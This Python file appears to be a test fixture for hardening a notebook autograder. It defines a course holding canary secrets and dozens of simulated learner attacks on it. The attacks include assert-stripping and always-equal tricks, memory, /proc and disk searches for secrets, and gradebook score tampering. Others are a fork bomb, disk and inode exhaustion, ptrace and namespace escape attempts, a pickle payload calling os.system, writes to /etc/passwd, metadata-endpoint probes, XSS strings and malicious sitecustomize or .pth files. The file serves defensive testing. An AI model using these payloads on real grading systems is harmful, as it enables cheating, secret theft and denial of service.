"""A course with something to steal, and learners who try to."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
from nbcohort.cells import markdown_cell, node

from grading.tests.made_up import answer, locked, mark, test

TEST, ARGUMENT, KEY, SECRET, VICTIM = (f"CANARY-{name}-7f3a" for name in ("TEST", "ARGUMENT", "KEY", "ENV", "VICTIM"))
CANARIES = (TEST, ARGUMENT, KEY, SECRET, VICTIM)
HELPER = "def same(a, b):\n    assert type(a) is type(b) and a == b\n"
CONFIG = """
from nbcohort.config import harden
c = get_config()
c.CourseDirectory.course_id = 'vault'
c.Execute.timeout = 4
harden(c)
c.CourseDirectory.ignore = ['.ipynb_checkpoints', '*.pyc', '__pycache__']  # learners may bring modules
"""


def cells() -> list[Any]:
    return [
        locked("setup", "import pandas as pd\nfrom helper import same\nLIMIT = 7"),
        answer("answer", "answer = 42\nshare = 1.0"),
        test("t-answer", 3, f"secret = {TEST!r}\nassert answer == 42\nassert abs(answer - 42) < LIMIT / 100"),
        test("t-same", 2, f"# {TEST}\nsame(answer, 42)"),
        test("t-share", 2, "2 * share"),
        answer("double", "return 2 * x", "def double(x):"),
        test("t-double", 3, f"assert double(21) == 42\nassert double({ARGUMENT!r}) == 2 * {ARGUMENT!r}, 'double'"),
        answer("frame", "frame = pd.DataFrame({'a': [1, 2, 3]})"),
        test("t-frame", 2, "assert abs(frame['a'].mean() - 2.0) < 1e-9\nassert len(frame) == 3"),
        answer("last", "print('done')"),
        markdown_cell("Why?", mark("why", grade=True, solution=True, points=1)),
    ]


def make_course(root: Path) -> None:
    folder = root / "source" / "vault"
    folder.mkdir(parents=True)
    (root / "nbgrader_config.py").write_text(CONFIG)
    (folder / "helper.py").write_text(HELPER)
    (folder / "key.txt").write_text("nothing secret: learners get what lies here")
    (root / "keys.txt").write_text(KEY)
    nb = nbformat.v4.new_notebook()
    nb.metadata.kernelspec = node(name="python3", display_name="Python 3", language="python")
    nb.cells = cells()
    nbformat.write(nb, folder / "vault.ipynb")


@dataclass(frozen=True)
class Attack:
    """What a learner hands in: code for the answer cells, and what else is done to the submission.

    `honest` is what the answers are worth without the attack. `refused` hand-ins are not graded at all.
    """

    code: str = ""
    double: str = "def double(x):\n    return 0"
    frame: str = "frame = pd.DataFrame({'a': [9]})"
    last: str = ""
    change: Callable[[dict[str, Any]], None] | None = None
    files: Callable[[Path], None] | None = None
    honest: float = 0.0
    refused: bool = False


EQUAL = """class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __abs__ = __sub__
    def __abs__(self): return self
    def __bool__(self): return True
    def __hash__(self): return 42
    def __getitem__(self, name): return self
    def __len__(self): return 3
    def __call__(self, *a, **k): return self
    def __getattr__(self, name): return self
    def __float__(self): return 1.0
    def mean(self): return self
answer = share = Equal()
"""
RUN_CELL = """from IPython.core.interactiveshell import InteractiveShell
shell = get_ipython()
old = type(shell).run_cell_async
async def quiet(self, *a, **k):
    result = await old(self, *a, **k)
    result.error_in_exec = result.error_before_exec = None
    return result
type(shell).run_cell_async = quiet
type(shell).showtraceback = lambda *a, **k: None
"""
TRANSFORMER = """def drop(lines):
    return [line for line in lines if 'assert' not in line and 'same' not in line]
get_ipython().input_transformers_cleanup.append(drop)
get_ipython().input_transformers_post.append(drop)
"""
AST_PASS = """import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Drop())
"""
SEARCH = """import gc, os, sys
found = []
def look(text):
    if 'CANARY-' in text: found.append(text[text.index('CANARY-'):][:400])
"""
MEMORY = (
    SEARCH
    + """for one in gc.get_objects():
    if isinstance(one, dict):
        for value in list(one.values()):
            if isinstance(value, str): look(value)
for entry in open('/proc/self/maps').read().splitlines():
    low, high = (int(n, 16) for n in entry.split()[0].split('-'))
    if ' rw' in entry and high - low < 200_000_000:
        try:
            with open('/proc/self/mem', 'rb') as memory:
                memory.seek(low)
                data = memory.read(high - low)
        except (OSError, OverflowError, ValueError): continue
        at = data.find(b'CANARY' + b'-TEST')
        if at >= 0: found.append(data[at:at + 40])
print(found)
"""
)
WALK = (
    SEARCH
    + """for top in ('COURSE', '/home', '/root', '/tmp', '/var', '/srv', '/released', '..', '../../..'):
    for parent, folders, files in os.walk(top):
        for name in files:
            try: look(open(os.path.join(parent, name), errors='replace').read(2_000_000))
            except OSError: pass
print(found, os.listdir('/'))
"""
)
PROC = (
    SEARCH
    + """for name in os.listdir('/proc'):
    if name.isdigit():
        for part in ('environ', 'cmdline', 'maps'):
            try: look(open(f'/proc/{name}/{part}', errors='replace').read())
            except OSError: pass
        for number in range(60):
            try: print(name, number, os.readlink(f'/proc/{name}/fd/{number}'))
            except OSError: pass
look(repr(dict(os.environ)))
print(found)
"""
)
GRADEBOOK = """import sqlite3, subprocess, sys
for path in ('COURSE/gradebook.db', '../../../gradebook.db', '/home/learner/gradebook.db'):
    try:
        book = sqlite3.connect(path)
        print(book.execute('select source from source_cell').fetchall())
        book.execute('update grade set auto_score = 99'); book.commit()
    except Exception as error: print(error)
"""
DETACHED = """import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for n in range(200):
            time.sleep(0.1)
            try:
                import sqlite3
                book = sqlite3.connect('COURSE/gradebook.db')
                book.execute('update grade set auto_score = 99'); book.commit()
            except Exception: pass
            try: open('COURSE/detached-was-here', 'w')
            except OSError: pass
    os._exit(0)
"""
FORKS = """import os, time
for n in range(2000):
    try:
        if os.fork() == 0: time.sleep(1000)
    except OSError as error:
        print(n, error); break
"""
DISK = """import os
written = 0
for folder in ('.', '/tmp', '/dev/shm', '/home/learner'):
    for n in range(50):
        try:
            with open(f'{folder}/big{n}', 'wb') as stream:
                for part in range(100): written += stream.write(bytes(1_000_000))
        except OSError as error: print(folder, error); break
"""
INODES = """for n in range(200_000):
    try: open(f'/tmp/{n}', 'w').close()
    except OSError as error: print(n, error); break
"""
PTRACE = """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid(), 2, 100): print(libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
for call in (lambda: libc.unshare(0x10000000), lambda: libc.mount(b'none', b'/mnt', b'tmpfs', 0, None),
             lambda: libc.setuid(0), lambda: libc.umount2(b'/home', 2), lambda: libc.syscall(250, 0, 0, 0, 0, 0),
             lambda: libc.chroot(b'/proc/1/root')): print(call(), ctypes.get_errno())
"""
FDS = """import os, struct, json
for body in ({'outputs': [], 'count': 1}, {'outputs': [{'output_type': 'execute_result', 'data': {'text/plain': '3.0'},
             'metadata': {}, 'execution_count': 1}]}, {'call': True}):
    packed = json.dumps(body).encode()
    for number in range(3, 250):
        try: os.write(number, struct.pack('>cI', b'J', len(packed)) + packed)
        except OSError: pass
for number in range(3, 250):
    try: os.write(number, struct.pack('>cI', b'R', 2**32 - 1) + b'x' * 1000)
    except OSError: pass
"""
KILLS = """import os, signal
for pid in (-1, 0, os.getppid(), 1, 2):
    try: os.kill(pid, signal.SIGTERM)
    except OSError as error: print(error)
"""
STUBBORN = """import signal, time
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGINT, signal.SIGALRM, signal.SIGTERM])
while True:
    try: time.sleep(1)
    except BaseException: pass
"""
NETWORK = """import socket, os, urllib.request
for where in ('1.1.1.1', '127.0.0.1', '169.254.169.254'):
    try: socket.create_connection((where, 80), 1); print('CONNECTED')
    except OSError as error: print(error)
for name in ('/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket'):
    try: socket.socket(socket.AF_UNIX).connect(name); print('CONNECTED')
    except OSError as error: print(error)
"""
WRITES = """import os
for path in ('COURSE/submitted/honest/vault/vault.ipynb', 'COURSE/autograded/x', 'COURSE/source/vault/vault.ipynb',
             '/usr/lib/x', '/etc/passwd', '/root/x', '/released/x', 'OUTSIDE', os.__file__):
    try: open(path, 'w').write('pwned'); print('WROTE', path)
    except OSError as error: print(error)
"""
LEFT = """import os
print(os.listdir('/tmp'), os.listdir('/dev/shm'), os.listdir('/home/learner'))
for folder in ('/tmp', '/dev/shm', '/home/learner'): open(f'{folder}/spoor', 'w').write('x')
"""
REDUCE = """class Evil:
    def __reduce__(self): import os; return (os.system, ('touch OUTSIDE',))
    def __eq__(self, other): return True
answer = share = Evil()
"""
CHANGES = """class Twice(dict):
    n = 0
    def __getattribute__(self, name): Twice.n += 1; return dict.__getattribute__(self, name)
class Int(int):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0
    __hash__ = int.__hash__
answer = Int(1); share = Int(9)
"""
BUILTINS = """import builtins, math, operator
builtins.abs = lambda x: 0
builtins.len = lambda x: 3
builtins.type = lambda x: int
builtins.__build_class__ = None
import pandas as pd
pd.Series.mean = lambda *a, **k: 2.0
pd.DataFrame.__len__ = lambda self: 3
"""
HELPERS = """import sys, helper, types
helper.same = lambda a, b: None
same = lambda a, b: None
fake = types.ModuleType('helper'); fake.same = same
sys.modules['helper'] = fake
LIMIT = 1e9
"""
REMEMBERS = (
    "seen = []\ndef double(x):\n    seen.append(x)\n    print(x)\n    open('seen.txt', 'a').write(str(x))\n    return x"
)
PRINTS = """print(seen, open('seen.txt').read() if __import__('os').path.exists('seen.txt') else '')
import time; time.sleep(1); print(seen, In)"""
RAISES = "def double(x):\n    raise ValueError(f'{x}')"
RAISES_KIND = "def double(x):\n    raise type(str(x), (Exception,), {})(x)"
EVIL_RESULT = EQUAL + "def double(x):\n    return answer"
TABLE = (
    EQUAL
    + "class Table(pd.DataFrame):\n    def __getitem__(self, name): return answer\n    def __len__(self): return 3\n"
)


def edit(**marks: Any) -> Callable[[dict[str, Any]], None]:
    """Change the marks and the source of every marked cell."""

    def change(nb: dict[str, Any]) -> None:
        for cell in nb["cells"]:
            if "nbgrader" in cell["metadata"]:
                cell["metadata"]["nbgrader"] |= marks
                if cell["metadata"]["nbgrader"].get("grade_id", "").startswith("t-"):
                    cell["source"] = "1000.0"

    return change


def own_copies(nb: dict[str, Any]) -> None:
    for cell in [
        one for one in nb["cells"] if one["metadata"].get("nbgrader", {}).get("grade_id", "").startswith("t-")
    ]:
        nb["cells"].append(json.loads(json.dumps(cell)) | {"source": "3.0", "id": f"copy{len(nb['cells'])}"})


def no_tests(nb: dict[str, Any]) -> None:
    nb["cells"] = [cell for cell in nb["cells"] if not cell["metadata"].get("nbgrader", {}).get("grade")]


def look_alikes(nb: dict[str, Any]) -> None:
    for cell in nb["cells"]:
        if grade_id := cell["metadata"].get("nbgrader", {}).get("grade_id"):
            cell["metadata"]["nbgrader"]["grade_id"] = grade_id.replace("a", "\u0430").replace("-", "\u2010")


def retyped(nb: dict[str, Any]) -> None:
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id", "").startswith("t-"):
            cell["cell_type"] = "markdown"
            cell.pop("outputs", None), cell.pop("execution_count", None)


def tests_first(nb: dict[str, Any]) -> None:
    nb["cells"].reverse()


def many_cells(nb: dict[str, Any]) -> None:
    nb["cells"] += [{"cell_type": "markdown", "id": f"m{n}", "metadata": {}, "source": "x"} for n in range(100_000)]


SCRIPT = "<script>window.canary=1</script><img src=x onerror=window.canary=1><svg onload=window.canary=1>"


DISPLAY = f"""from IPython.display import *
display(HTML({SCRIPT!r}), Javascript('window.canary=1'), Markdown({SCRIPT!r}))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="window.canary=1"/>'))
print({SCRIPT!r})
raise ValueError({SCRIPT!r})"""


def scripts(nb: dict[str, Any]) -> None:
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["source"] = cell["source"] + f"\n# {SCRIPT}\n" if cell["cell_type"] == "code" else SCRIPT
    more = {"outputs": [], "execution_count": None, "metadata": {}}
    nb["cells"].append(more | {"cell_type": "code", "id": "s", "source": DISPLAY})
    nb["cells"].append({"cell_type": "raw", "id": "r", "metadata": {"raw_mimetype": "text/html"}, "source": SCRIPT})


def write(name: str, text: str | bytes) -> Callable[[Path], None]:
    def do(folder: Path) -> None:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.write_bytes(text if isinstance(text, bytes) else text.encode())

    return do


def link(name: str, target: str) -> Callable[[Path], None]:
    def do(folder: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target.replace("COURSE", str(folder.parents[2])))

    return do


def linked_folder(folder: Path) -> None:
    folder.rename(folder.with_name("aside"))
    folder.symlink_to(folder.parents[1] / "honest" / "vault")


def sparse(folder: Path) -> None:
    os.truncate(folder / "vault.ipynb", 600_000_000)


MODULE = "import os\nos.system('touch OUTSIDE')\ndef same(a, b): pass\nclass DataFrame: pass\n"
ENDLESS = "(n for n in iter(int, 1))"
ATTACKS: dict[str, Attack] = {
    "patch-run-cell": Attack(RUN_CELL),
    "input-transformer": Attack(TRANSFORMER),
    "ast-pass": Attack(AST_PASS),
    "always-equal": Attack(EQUAL),
    "always-equal-result": Attack(double=EVIL_RESULT),
    "table-that-lies": Attack(frame=TABLE + "frame = Table({'a': [1]})"),
    "table-object-that-lies": Attack(EQUAL, frame="frame = answer"),
    "walk-the-disk": Attack(WALK),
    "search-memory": Attack(MEMORY),
    "search-memory-late": Attack(double=REMEMBERS, last=MEMORY),
    "proc-and-environment": Attack(PROC),
    "gradebook": Attack(GRADEBOOK),
    "history": Attack("print(In, In[-1], Out, globals().keys())", last="print(In, In[-1], Out)"),
    "detached-process": Attack(DETACHED),
    "fork-bomb": Attack(FORKS),
    "memory": Attack("x = [bytearray(10**8) for n in range(200)]\nanswer = 42"),
    "disk": Attack(DISK),
    "inodes": Attack(INODES),
    "output": Attack("print('x' * 100_000_000)\nfor n in range(100_000): print('y' * 100)"),
    "displays": Attack("for n in range(20_000): display({'text/plain': 'z' * 1000}, raw=True)"),
    "ptrace-and-namespaces": Attack(PTRACE),
    "forged-protocol": Attack(FDS),
    "forged-protocol-late": Attack(double=f"def double(x):\n    exec({FDS!r})\n    return 42"),
    "kill-everybody": Attack(KILLS),
    "exit": Attack("import os; os._exit(0)"),
    "exit-in-a-call": Attack(double="def double(x):\n    import os; os._exit(0)"),
    "system-exit-in-a-call": Attack(double="def double(x):\n    raise SystemExit(0)"),
    "keyboard-interrupt-in-a-call": Attack(double="def double(x):\n    raise KeyboardInterrupt"),
    "endless": Attack("while True: pass"),
    "endless-and-stubborn": Attack(STUBBORN),
    "endless-call": Attack(double=f"def double(x):\n    exec({STUBBORN!r})"),
    "network": Attack(NETWORK),
    "write-everywhere": Attack(WRITES),
    "left-behind-1": Attack(LEFT),
    "left-behind-2": Attack(LEFT),
    "pickle": Attack(REDUCE),
    "pickled-result": Attack(double=REDUCE + "def double(x):\n    return answer"),
    "huge-value": Attack("answer = 'x' * 200_000_000\nshare = list(range(5_000_000))"),
    "huge-result": Attack(double="def double(x):\n    return 'x' * 100_000_000"),
    "recursive-value": Attack("answer = []\nanswer.append(answer)\nshare = {}\nshare[1] = share"),
    "endless-generator": Attack(f"answer = {ENDLESS}", double=f"def double(x):\n    return {ENDLESS}"),
    "huge-number": Attack("share = 10 ** 100_000\nanswer = 2 ** 400_000"),
    "nan": Attack("share = float('nan')\nanswer = float('nan')"),
    "negative": Attack("share = -5"),
    "infinity": Attack("share = float('-inf')"),
    "true": Attack("share = 'True'\nanswer = True"),
    "text": Attack("share = 'full marks'"),
    "none": Attack("share = None"),
    "numpy-nan": Attack("import numpy as np\nshare = np.float64('nan')"),
    "changing-values": Attack(CHANGES),
    "builtins": Attack(BUILTINS),
    "helpers": Attack(HELPERS),
    "remembers-calls": Attack(double=REMEMBERS, last=PRINTS),
    "raises-arguments": Attack(double=RAISES),
    "raises-a-kind": Attack(double=RAISES_KIND),
    "not-implemented": Attack("answer = NotImplemented", double="def double(x):\n    return NotImplemented"),
    "module-beside": Attack(files=write("pandas.py", MODULE)),
    "helper-beside": Attack(files=write("helper.py", MODULE)),
    "startup-file-beside": Attack(files=write("sitecustomize.py", MODULE)),
    "package-beside": Attack(files=write("pandas/__init__.py", MODULE)),
    "path-file-beside": Attack(files=write("x.pth", "import os; os.system('touch OUTSIDE')")),
    "marks-raised": Attack(change=edit(points=1000)),
    "marks-unlocked": Attack(change=edit(locked=False, solution=True)),
    "old-schema": Attack(change=edit(schema_version=1)),
    "own-copies-of-tests": Attack(change=own_copies),
    "no-tests": Attack(change=no_tests),
    "look-alike-ids": Attack(change=look_alikes),
    "tests-as-text": Attack(change=retyped),
    "tests-first": Attack(change=tests_first),
    "scripts": Attack(change=scripts),
    "many-cells": Attack(change=many_cells, refused=True),
    "600-megabytes": Attack(files=sparse, refused=True),
    "linked-notebook": Attack(files=link("vault.ipynb", "COURSE/source/vault/vault.ipynb"), refused=True),
    "linked-folder": Attack(files=linked_folder, refused=True),
    "linked-data": Attack("print(open('data.txt').read())", files=link("data.txt", "COURSE/keys.txt")),
    "pipe": Attack(files=lambda folder: os.mkfifo(folder / "pipe.txt")),
    "no-json": Attack(files=write("vault.ipynb", "{"), refused=True),
    "deep-json": Attack(files=write("vault.ipynb", "[" * 100_000), refused=True),
    "no-notebook": Attack(files=write("vault.ipynb", '{"cells": 7, "nbformat": 4, "nbformat_minor": 5}'), refused=True),
    "forged-time": Attack(files=write("timestamp.txt", "9" * 900)),
}  # fmt: skip
HONEST = {
    "answer": "answer = 42\nshare = 1.0",
    "double": "def double(x):\n    return x + x",
    "frame": "frame = pd.DataFrame({'a': [2, 2, 2]})",
}


def hand_in(root: Path, learner: str, attack: Attack | None, outside: Path) -> None:
    folder = root / "submitted" / learner / "vault"
    folder.mkdir(parents=True)
    (folder / "notes.txt").write_text(VICTIM if learner == "honest" else "mine")
    nb = json.loads((root / "release" / "vault" / "vault.ipynb").read_text())
    own = (
        HONEST
        if attack is None
        else {
            "answer": f"answer = 1\nshare = 0.0\n{attack.code}",
            "double": attack.double,
            "frame": attack.frame,
            "last": attack.last,
        }
    )
    for cell in nb["cells"]:
        if (text := own.get(cell["metadata"].get("nbgrader", {}).get("grade_id", ""))) is not None:
            cell["source"] = text.replace("COURSE", str(root)).replace("OUTSIDE", str(outside))
    if attack and attack.change:
        attack.change(nb)
    (folder / "vault.ipynb").write_text(json.dumps(nb))
    if attack and attack.files:
        attack.files(folder)
